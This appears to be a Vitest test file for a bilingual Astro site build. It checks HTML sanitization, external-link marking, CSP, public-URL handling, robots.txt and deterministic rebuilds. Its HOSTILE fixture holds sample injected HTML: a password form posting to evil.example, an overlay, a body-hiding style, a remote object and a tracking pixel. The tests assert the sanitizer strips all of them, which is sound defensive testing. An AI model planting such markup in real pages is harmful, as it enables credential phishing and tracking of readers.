// The extra builds of the suite, kept to two: the fixture corpus (every page
// kind, a handful of pages), with an article carrying HTML the validator
// allows but the allow-list does not, and links leaving the site, built as a
// deploy builds it, with SITE_URL. The first build shows what the reader
// gets (sanitized and marked) and what a crawler gets (the public address,
// localhost nowhere). The second must be byte-identical to it: the build is
// deterministic. One build serves both concerns because a fixture build is
// the suite's costliest step. (The suite's own build, a preview, is checked
// in deploy.test.ts.)
import fs from 'node:fs';
import os from 'node:os';
import path from 'node:path';
import { parse } from 'node-html-parser';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { useStrings } from '../../src/i18n/index.ts';
import { metaPolicy } from '../../src/lib/csp.ts';
import { copyFixture, edit } from '../helpers/fixture.ts';
import { astroBuild } from '../helpers/astro-build.ts';

const HOSTILE = [
  '<style>body{display:none}</style>',
  '<div style="position:fixed;inset:0" class="overlay">overlay text</div>',
  '<form action="https://evil.example/"><input name="password"></form>',
  '<object data="https://evil.example/x.swf"></object>',
  '<img src="https://tracker.example/pixel.gif" alt="pixel">',
  '<abbr title="Meta Superintelligence Labs">MSL</abbr>',
].join('\n');

const PUBLIC = 'https://ledger.example';
const content = copyFixture();
const outDir = fs.mkdtempSync(path.join(os.tmpdir(), 'avocado-public-'));
const again = fs.mkdtempSync(path.join(os.tmpdir(), 'avocado-rebuild-'));
afterAll(() => [content, outDir, again].forEach((d) => fs.rmSync(d, { recursive: true, force: true })));

let log = '';
// astro check (tests/tools/types.test.ts) reads these beside this file's builds, without a lock.
const TYPE_FILES = ['types.d.ts', 'content.d.ts'].map((f) => path.resolve(import.meta.dirname, '../../.astro', f));
const readTypes = () => TYPE_FILES.map((f) => fs.readFileSync(f, 'utf8'));
let typesBefore: string[] = [];
const built = (locale: 'en' | 'zh-tw') => parse(fs.readFileSync(path.join(outDir, locale, 'articles/sample-article/index.html'), 'utf8'));

beforeAll(() => {
  edit(content, 'articles/sample-article/en.md', '## The window', `## The window\n\n${HOSTILE}\n\nRead [the post](https://example.org/post).`);
  edit(content, 'articles/sample-article/zh-tw.md', '## 發布時間', `## 發布時間\n\n${HOSTILE}\n\n參見[原文](https://example.org/post)。`);
  typesBefore = readTypes();
  const r = astroBuild(outDir, { AVOCADO_CONTENT_DIR: content, SITE_URL: PUBLIC });
  log = `${r.stdout}\n${r.stderr}`;
  if (r.status !== 0) throw new Error(`fixture build failed:\n${log}`);
});

describe('an article with raw HTML outside the allow-list, once built', () => {
  it.each(['en', 'zh-tw'] as const)('%s: keeps the text and allowed tags, drops styles, forms, objects, foreign images', (locale) => {
    const body = built(locale).querySelector('main')!;
    expect(body.querySelector('h2')?.getAttribute('id')).toBeTruthy();
    expect(body.text).toContain('overlay text');
    expect(body.querySelector('abbr')?.getAttribute('title')).toBe('Meta Superintelligence Labs');
    for (const sel of ['style', 'form', 'input', 'object', 'img[src]', '.overlay', '[style]']) expect(body.querySelector(sel)?.toString(), sel).toBeUndefined();
    expect(body.innerHTML).not.toMatch(/display:none|evil\.example|tracker\.example/);
  });

  it('keeps GFM tables (the English fixture has one)', () => {
    // The first cell of a body row becomes its row header (src/lib/markdown/tables.ts).
    expect(built('en').querySelector('main table tbody th[scope="row"]')?.text).toBe('1');
    expect(built('en').querySelector('main table tbody td')?.text).toBe('2');
  });

  it.each([
    ['en', 'en'],
    ['zh-tw', 'zh-TW'],
  ] as const)('%s: marks the external link with rel, class and hidden text in that language', (dir, locale) => {
    const a = built(dir).querySelector('main a[href="https://example.org/post"]')!;
    expect(a.getAttribute('rel')).toBe('noopener noreferrer');
    expect(a.classList.contains('external')).toBe(true);
    expect(a.querySelector('.visually-hidden')?.text.trim()).toBe(useStrings(locale).site.externalLink);
  });

  it('still carries its CSP meta tag', () => {
    expect(metaPolicy(built('en').toString())).toMatch(/^default-src 'self';.* script-src 'self' 'sha256-/);
  });
});


const allFiles = (dir: string): string[] =>
  (fs.readdirSync(dir, { recursive: true }) as string[]).map((f) => path.join(dir, f)).filter((f) => fs.statSync(f).isFile());
// Everything a crawler or a reader's browser reads as text.
const TEXT = /\.(html|xml|json|txt|csv|webmanifest|js|css)$|_headers$/;

describe('a build with SITE_URL', () => {
  it('says in one line that it is a public build for that address', () => {
    expect(log.match(/public build for https:\/\/ledger\.example\//g)).toHaveLength(1);
    expect(log).not.toMatch(/preview build/);
  });

  it('writes that address into every absolute URL and localhost nowhere', () => {
    const text = allFiles(outDir).filter((f) => TEXT.test(f));
    expect(text.length).toBeGreaterThan(20);
    const leaks = text.filter((f) => /localhost|127\.0\.0\.1/.test(fs.readFileSync(f, 'utf8'))).map((f) => path.relative(outDir, f));
    expect(leaks).toEqual([]);
    const home = fs.readFileSync(path.join(outDir, 'en/index.html'), 'utf8');
    expect(home).toContain(`<link rel="canonical" href="${PUBLIC}/en/">`);
    expect(home).toContain(`property="og:url" content="${PUBLIC}/en/"`);
  });

  it('may be indexed: robots.txt allows crawling and names the sitemap; reading pages carry no noindex', () => {
    expect(fs.readFileSync(path.join(outDir, 'robots.txt'), 'utf8')).toBe(`User-agent: *\nAllow: /\n\nSitemap: ${PUBLIC}/sitemap-index.xml\n`);
    for (const page of ['index.html', 'en/index.html', 'zh-tw/claims/index.html']) {
      expect(fs.readFileSync(path.join(outDir, page), 'utf8'), page).not.toContain('name="robots"');
    }
  });
});

describe('the build', () => {
  it('rewrites the project’s type declarations with the same bytes, whatever the content (astro check reads them meanwhile)', () => {
    expect(typesBefore.every((t) => t.length > 0)).toBe(true);
    expect(readTypes()).toEqual(typesBefore);
  });

  const files = (dir: string) => (fs.readdirSync(dir, { recursive: true, withFileTypes: true }) as fs.Dirent[]).filter((d) => d.isFile()).map((d) => path.relative(dir, path.join(d.parentPath, d.name)).split(path.sep).join('/')).sort();

  it('is deterministic: a second build of the same commit and content is byte-identical', () => {
    const r = astroBuild(again, { AVOCADO_CONTENT_DIR: content, SITE_URL: PUBLIC });
    expect(r.status, r.stderr).toBe(0);
    const first = files(outDir);
    expect(first.filter((f) => f.endsWith('.html')).length).toBeGreaterThan(20);
    expect(files(again)).toEqual(first);
    const differing = first.filter((f) => !fs.readFileSync(path.join(outDir, f)).equals(fs.readFileSync(path.join(again, f))));
    expect(differing).toEqual([]);
  });
});
